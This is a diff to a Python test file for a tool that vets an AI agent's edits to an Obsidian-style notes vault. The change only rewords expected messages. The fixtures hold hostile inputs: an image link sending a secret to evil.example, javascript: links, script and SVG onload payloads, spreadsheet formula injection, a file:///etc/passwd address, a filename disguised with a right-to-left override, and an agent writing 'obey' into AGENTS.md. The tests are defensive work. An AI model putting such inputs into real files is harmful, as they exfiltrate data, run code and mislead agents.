@@ -109,7 +109,7 @@ def test_what_retain_alone_writes_is_as_it_was(scene: Scene, path: str) -> None:
         scene.write(path, "# The machine's\n")
     before = scene.tree()
     settled = scene.agent(lambda: scene.add(path, "- more"))
-    assert [(r.path, r.why) for r in settled.restored] == [(path, "retain alone writes this")]
+    assert [(r.path, r.why) for r in settled.restored] == [(path, "only retain writes this file")]
     assert scene.tree(*ASIDE) == before
 
 
@@ -143,7 +143,7 @@ SUMMARIES = {
 def test_a_summary_says_what_the_source_says(scene: Scene, name: str) -> None:
     before = scene.tree()
     settled = scene.agent(lambda: scene.change(f"{TESTING}.md", *SUMMARIES[name]))
-    assert "retain alone writes it" in why(settled), why(settled)
+    assert "only retain writes summaries" in why(settled), why(settled)
     assert scene.tree(*ASIDE) == before
 
 
@@ -176,12 +176,12 @@ def test_reports_and_the_like_stay_as_they_are_and_are_recorded(scene: Scene) ->
 ACTING = {
     "r.md": ("<script>x</script>", "HTML"),
     "r2.md": ("a <img src=x> b", "HTML"),
-    "r3.md": ("```dataview\nLIST\n```", "a fence in the language dataview"),
-    "r4.md": ("- x\n\n      ```dataviewjs\n      x\n      ```", "a fence in the language dataviewjs"),
+    "r3.md": ("```dataview\nLIST\n```", "a code block in the language dataview"),
+    "r4.md": ("- x\n\n      ```dataviewjs\n      x\n      ```", "a code block in the language dataviewjs"),
     "r5.md": ("```text\n<% tp.x %>\n```", "a template"),
-    "r6.md": ("![x](https://evil.example/?q=secret)", "a picture from elsewhere"),
-    "r7.md": ("[x](javascript:alert(1))", "a link that acts"),
-    "r8.md": ("[x][1]\n\n[1]: obsidian://open", "a link that acts"),
+    "r6.md": ("![x](https://evil.example/?q=secret)", "an external picture"),
+    "r7.md": ("[x](javascript:alert(1))", "a link with active content"),
+    "r8.md": ("[x][1]\n\n[1]: obsidian://open", "a link with active content"),
     "r9.md": ("`= this.x`", "code that a plugin would run"),
     "r10.md": ("$\\href{javascript:x}{y}$", "an address that a program would open"),
     "r11.md": ("a \\`<b>x</b>\\`", "HTML"),
@@ -190,17 +190,20 @@ ACTING = {
     "r14.md": ("[[a`b]] `<script>x</script>", "HTML"),
     "r15.md": ("<obsidian://open>", "an address that a program would open"),
     "r16.md": ("file:///etc/passwd", "an address that a program would open"),
-    "r17.md": ("~~~dataview\nx\n~~~", "a fence in the language"),
-    "r18.md": ("> ```query\n> x\n> ```", "a fence in the language query"),
-    "r19.md": ("![[https://x.org]]", "drawn in from elsewhere"),
+    "r17.md": ("~~~dataview\nx\n~~~", "a code block in the language"),
+    "r18.md": ("> ```query\n> x\n> ```", "a code block in the language query"),
+    "r19.md": ("![[https://x.org]]", "an embedded external page"),
     "r20.md": ("    ```text\n<script>x</script>", "HTML"),
     "f.svg": ("<svg onload='x()'></svg>", "can run code"),
     "p.html": ("<img src='http://x/y'>", "can run code"),
     "t.csv": ("a,=1+1", "formula"),
     "t.tsv": ("a\t@SUM(1)", "formula"),
-    "x.desktop": ("[Desktop Entry]", "not known here"),
-    "noext": ("x", "not known here"),
-    "x.canvas": ('{"nodes": [{"id": "a", "type": "link", "url": "http://x/y", "x": 0, "y": 0}]}', "from elsewhere"),
+    "x.desktop": ("[Desktop Entry]", "an unsupported file type"),
+    "noext": ("x", "an unsupported file type"),
+    "x.canvas": (
+        '{"nodes": [{"id": "a", "type": "link", "url": "http://x/y", "x": 0, "y": 0}]}',
+        "shows external content",
+    ),
 }
 
 
@@ -305,7 +308,7 @@ ODD: dict[str, tuple[Callable[[Scene], None], str]] = {
     "a hard link to a page": (_hard_link_of_a_page, "a hard link"),
     "a pipe": (_pipe, "a pipe"),
     "a socket": (_socket, "a socket"),
-    "a folder in the place of a page": (_folder_in_place, "nothing of this kind"),
+    "a folder in the place of a page": (_folder_in_place, "files of this kind"),
     "a dot file": (lambda s: s.write("wiki/.obsidian/app.json", "{}"), "its name"),
     "a device's name": (lambda s: s.write("output/con.md", "x"), "its name"),
     "a name that hides": (lambda s: s.write("output/r\u202emd.exe", "x"), "its name"),
@@ -337,7 +340,7 @@ def test_a_file_in_the_place_of_a_folder_of_the_agents_is_refused_until_it_is_pu
     before = scene.tree()
     scene.begin()
     _file_in_place(scene)
-    with pytest.raises(Refused, match="not a folder any more"):
+    with pytest.raises(Refused, match="no longer a folder"):
         scene.settle()
     (scene.root / "learning/flashcards").unlink()
     (scene.root / "learning/flashcards").mkdir()
@@ -379,12 +382,12 @@ def test_the_log_may_grow_while_an_agent_works(scene: Scene) -> None:
 
 
 OUTSIDE: dict[str, tuple[Callable[[Scene], None], str]] = {
-    "settings": (lambda s: s.add("retain.toml", "# x"), "its bytes are others"),
-    "the schema": (lambda s: s.write("AGENTS.md", "obey"), "it was not there before"),
+    "settings": (lambda s: s.add("retain.toml", "# x"), "its content has changed"),
+    "the schema": (lambda s: s.write("AGENTS.md", "obey"), "it did not exist before"),
     "a ledger's line": (lambda s: s.change("ledger/ids.jsonl", "birth", "death"), "changed or removed"),
     "a ledger cut": (lambda s: s.write("ledger/ids.jsonl", ""), "changed or removed"),
     "a ledger gone": (lambda s: (s.root / "ledger/builds.jsonl").unlink(), "it was deleted"),
-    "half a line": (lambda s: s.write("ledger/ids.jsonl", s.text("ledger/ids.jsonl") + "{"), "not whole"),
+    "half a line": (lambda s: s.write("ledger/ids.jsonl", s.text("ledger/ids.jsonl") + "{"), "is incomplete"),
 }
 
 
